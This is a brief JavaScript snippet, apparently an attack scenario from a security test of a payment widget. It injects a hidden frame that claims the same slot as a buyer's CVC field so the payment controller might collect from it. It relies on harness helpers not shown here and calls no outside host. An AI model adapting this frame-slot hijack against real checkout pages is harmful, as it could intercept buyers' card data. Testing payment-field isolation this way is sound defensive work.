// Attack, after mount: add a hidden, genuine field frame that claims the same slot (instance,
// group, type) as the buyer's CVC field, so the controller might collect from ours.
(function () {
  window.__whenReady(function () {
    var cvc = window.__frameParams(document.querySelector('#cvc iframe.payjp-frame'));
    var claim = { mode: 'field', type: 'cardCvc', instance: cvc.get('instance'), group: cvc.get('group'), key: cvc.get('key'), api: cvc.get('api') };
    window.__genuineFrame(claim, { options: {} }, function () {
      window.__attackReady = true;
    });
  });
})();
